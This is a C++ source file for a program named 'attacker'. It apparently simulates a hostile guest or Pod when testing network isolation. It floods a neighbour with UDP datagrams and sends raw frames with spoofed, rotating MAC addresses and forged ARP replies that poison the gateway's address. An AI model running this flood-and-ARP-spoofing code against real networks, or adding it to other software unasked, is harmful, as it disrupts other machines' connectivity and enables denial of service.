// What a guest runs that means harm: sends as fast as it can, for so many seconds, what no machine should be heard
// with.
//   attacker SECONDS NEIGHBOUR GATEWAY      (IPv4 addresses of its subnet)
// Static and without C++'s library, since a guest has none. Prints how many frames its network took.
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

constexpr std::size_t datagram_bytes = 1400;
constexpr std::size_t arp_at = 14;  // behind the Ethernet header

/// Broadcast, from an address of the same kind as those of Pods, another one each time.
void put_addresses(unsigned char* frame, unsigned number, std::uint16_t kind) {
    std::memset(frame, 0xff, 6);
    unsigned char const source[6] = {0x0a,
                                     0x58,
                                     static_cast<unsigned char>(number >> 24),
                                     static_cast<unsigned char>(number >> 16),
                                     static_cast<unsigned char>(number >> 8),
                                     static_cast<unsigned char>(number)};
    std::memcpy(frame + 6, source, sizeof source);
    auto const wire = htons(kind);
    std::memcpy(frame + 12, &wire, sizeof wire);
}

/// "The gateway is at an address that nobody has."   Source: RFC 826
void put_arp(unsigned char* frame, in_addr gateway) {
    unsigned char const head[8] = {0, 1, 8, 0, 6, 4, 0, 2};  // Ethernet, IPv4, their lengths, a reply
    auto* const arp = frame + arp_at;
    std::memcpy(arp, head, sizeof head);
    std::memcpy(arp + 8, frame + 6, 6);
    std::memcpy(arp + 14, &gateway, 4);
    std::memset(arp + 18, 0xff, 6);
    std::memcpy(arp + 24, &gateway, 4);
}

}  // namespace

int main(int count, char** words) {
    in_addr neighbour{};
    in_addr gateway{};
    if (count != 4 || ::inet_aton(words[2], &neighbour) == 0 || ::inet_aton(words[3], &gateway) == 0) return 2;
    auto const raw = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    auto const datagrams = ::socket(AF_INET, SOCK_DGRAM, 0);
    if (raw < 0 || datagrams < 0) {
        std::perror("attacker");
        return 1;
    }
    sockaddr_ll link{};
    link.sll_family = AF_PACKET;
    link.sll_ifindex = static_cast<int>(::if_nametoindex("eth0"));
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr = neighbour;
    to.sin_port = htons(9);
    unsigned char frame[datagram_bytes] = {};
    unsigned long sent = 0;
    unsigned long lies = 0;
    auto const until = std::time(nullptr) + std::atol(words[1]);
    for (unsigned number = 0; std::time(nullptr) < until; ++number) {
        if (::sendto(datagrams, frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
        auto const is_arp = number % 2 == 0;
        put_addresses(frame, number, is_arp ? ETH_P_ARP : ETH_P_IP);
        if (is_arp) put_arp(frame, gateway);
        if (::sendto(raw, frame, 60, 0, reinterpret_cast<sockaddr*>(&link), sizeof link) > 0) ++lies;
    }
    std::printf("sent %lu datagrams and %lu lies\n", sent, lies);
    return 0;
}
